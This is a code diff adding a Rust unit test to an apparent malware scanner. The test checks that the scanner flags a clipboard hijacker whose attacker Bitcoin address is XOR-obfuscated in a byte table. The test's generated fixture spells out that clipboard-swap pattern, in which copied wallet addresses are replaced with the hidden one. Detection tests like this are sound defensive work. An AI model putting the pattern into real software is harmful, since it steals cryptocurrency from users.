@@ -3358,4 +3358,58 @@ pub fn upload(address: &str, attributes: &mut Vec<(&'static str, &'static str)>)
         let linked = namespaced.replace("xmlns", "href");
         assert_eq!(destinations(&linked), 2);
     }
+
+    /// A decoder called with a value of the run (`reference(slot)`) is evaluated on the first
+    /// indices: an address hidden in its table is found whichever index the run picks, and a
+    /// table of plain labels hides nothing.
+    #[test]
+    fn a_table_of_hidden_strings_picked_by_a_value_of_the_run_is_read_at_every_index() {
+        let source = |text: &str| {
+            let packed: Vec<String> = text
+                .bytes()
+                .enumerate()
+                .map(|(i, b)| format!("{:#04x}", b ^ 0x5a ^ (i as u8 & 0x0f)))
+                .collect();
+            format!(
+                r#"
+const PACKED: [&[u8]; 1] = [&[{}]];
+fn reference(slot: usize) -> String {{
+    PACKED[slot].iter().enumerate().map(|(i, b)| (b ^ 0x5a ^ (i as u8 & 0x0f)) as char).collect()
+}}
+pub fn copy(address: &str) -> Result<(), arboard::Error> {{
+    let slot = usize::from(address.starts_with("bc1"));
+    let mut board = arboard::Clipboard::new()?;
+    board.set_text(reference(slot.saturating_sub(1)))
+}}"#,
+                packed.join(", ")
+            )
+        };
+        let strong_wallet = |report: &crate::scan::Report| {
+            report
+                .signals
+                .iter()
+                .any(|s| matches!(s.kind, SignalKind::Wallet { strong: true, .. }))
+        };
+        let hidden = report(&source("bc1qqpzry9x8gf2tvdw0s3jn54khce6mua7lqpzry9x8"));
+        assert!(strong_wallet(&hidden), "{:#?}", hidden.signals);
+        expect(
+            &hidden
+                .findings
+                .iter()
+                .map(|f| (f.rule.clone(), f.severity))
+                .collect::<Vec<_>>(),
+            super::super::rules::CLIPBOARD_HIJACK,
+            Some(Verdict::Hold),
+        );
+        let labels = report(&source("Bitcoin mainnet"));
+        assert!(!strong_wallet(&labels), "{:#?}", labels.signals);
+        assert!(
+            !labels
+                .signals
+                .iter()
+                .any(|s| matches!(s.kind, SignalKind::HiddenIndicator { .. })),
+            "{:#?}",
+            labels.signals
+        );
+    }
 }
